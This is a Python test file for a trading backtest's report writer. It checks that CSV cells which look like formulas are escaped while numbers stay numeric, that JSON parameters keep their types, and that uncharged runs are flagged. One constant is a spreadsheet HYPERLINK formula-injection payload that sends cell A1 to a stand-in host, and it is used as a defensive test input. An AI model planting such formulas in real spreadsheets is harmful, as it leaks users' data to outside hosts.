"""The report's outputs as a spreadsheet and a script read them: text cells that a spreadsheet
would run as formulas are escaped while numbers stay numbers (issue #15, point 3), parameters
keep their types in JSON, and a run without charges says so before any figure (issue #9)."""

from __future__ import annotations

import csv
import json
from decimal import Decimal
from pathlib import Path

import pytest

from algo_trading.backtest import (
    BacktestConfig,
    BacktestRun,
    RunLabels,
    generate_bars,
    metrics_of,
    render_text,
    run_backtest,
    summary,
    write_outputs,
)
from algo_trading.backtest.report import escape_cell
from algo_trading.strategy.builtin.sma_crossover import SmaCrossover, SmaCrossoverParams
from algo_trading.strategy.builtin.supertrend import SupertrendFollow, SupertrendParams

HOSTILE_SYMBOL = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+91", "'+91"),
        ("-SBIN", "'-SBIN"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("SBIN-EQ", "SBIN-EQ"),
        ("", ""),
        (-5, -5),
        (Decimal("-12.50"), Decimal("-12.50")),
    ],
)
def test_a_text_cell_starting_like_a_formula_is_escaped_and_a_number_is_not(
    cell: object, written: object
) -> None:
    assert escape_cell(cell) == written


def _run(symbol: str) -> BacktestRun:
    strategy = SmaCrossover(
        SmaCrossoverParams(fast=5, slow=20, allow_short=True), symbols=(symbol,), quantity=7
    )
    return run_backtest(strategy, [generate_bars(3_000, symbol=symbol, seed=11)], BacktestConfig())


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_outputs_escape_a_hostile_symbol_and_keep_negative_money_as_numbers(
    tmp_path: Path,
) -> None:
    run = _run(HOSTILE_SYMBOL)

    write_outputs(run, metrics_of(run), tmp_path)

    trades = _rows(tmp_path / "trades.csv")
    fills = _rows(tmp_path / "fills.csv")
    orders = _rows(tmp_path / "orders.csv")
    assert trades
    for row in [*trades, *fills, *orders]:
        assert row["symbol"] == "'" + HOSTILE_SYMBOL
    pnls = [Decimal(t["net_pnl"]) for t in trades]  # parses: a number, not "'-12.50"
    assert any(p < 0 for p in pnls)
    assert any(t["net_pnl"].startswith("-") for t in trades)
    for t in trades:
        for column in ("quantity", "entry_value", "exit_value", "pnl", "charges"):
            Decimal(t[column])


def test_json_parameters_keep_their_types() -> None:
    run = _run("SBIN")
    strategy = SupertrendFollow(SupertrendParams(multiplier=Decimal("2.5")), symbols=("SBIN",))
    supertrend = run_backtest(strategy, [generate_bars(500, symbol="SBIN")])

    assert summary(run, metrics_of(run))["params"] == {
        "fast": 5,
        "slow": 20,
        "allow_short": True,
    }
    params = json.loads(json.dumps(summary(supertrend, metrics_of(supertrend))))["params"]
    assert params["multiplier"] == 2.5
    assert params["period"] == 10


def test_a_run_without_charges_says_so_on_the_first_line_of_its_report() -> None:
    run = _run("SBIN")
    m = metrics_of(run)

    off = render_text(run, m, RunLabels(charges="none", charges_off=True, sessions="checked"))
    on = render_text(run, m, RunLabels(charges="Angel One's schedule", sessions="checked"))

    assert off.splitlines()[0].startswith("CHARGES OFF (--charges none)")
    assert on.splitlines()[0].startswith("Strategy")
    assert "Angel One's schedule" in on
